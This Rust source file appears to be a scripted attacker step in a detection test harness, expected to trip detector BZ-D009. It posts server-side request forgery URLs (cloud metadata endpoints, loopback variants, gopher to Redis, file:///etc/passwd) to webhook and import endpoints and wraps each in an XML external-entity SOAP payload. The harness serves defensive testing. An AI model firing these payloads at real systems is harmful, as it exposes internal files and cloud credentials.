//! Addresses that lead inside, given to whatever fetches something.

use serde_json::json;

use super::enter;
use crate::player::{Over, Seat, Seen};

pub(super) const SEEN: &[Seen] = &[Seen {
    detector: "BZ-D009",
    why: "one of the addresses is a `file:` wrapper around a file that attackers want",
}];

pub(super) async fn act(seat: &mut Seat) -> Result<(), Over> {
    enter(seat, 160, "customer159").await?;
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1/_internal/metadata",
        "http://localhost:8080/_internal/metadata",
        "http://[::1]/",
        "http://2130706433/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_INFO",
        "http://metadata.internal/computeMetadata/v1/",
    ] {
        seat.post("/api/v1/webhooks/test", &json!({"url": url})).await?;
        seat.post("/api/v1/documents/import", &json!({"url": url})).await?;
        let call = format!(
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"{url}\">]><s:Envelope xmlns:s=\
             \"http://schemas.xmlsoap.org/soap/envelope/\" xmlns:q=\"urn:quayside:customs\"><s:Body>\
             <q:LodgeDeclaration><goods>&e;</goods><value>1</value></q:LodgeDeclaration></s:Body></s:Envelope>"
        );
        seat.text("POST", "/soap", "text/xml", call).await?;
        seat.rest(4_000).await?;
    }
    Ok(())
}
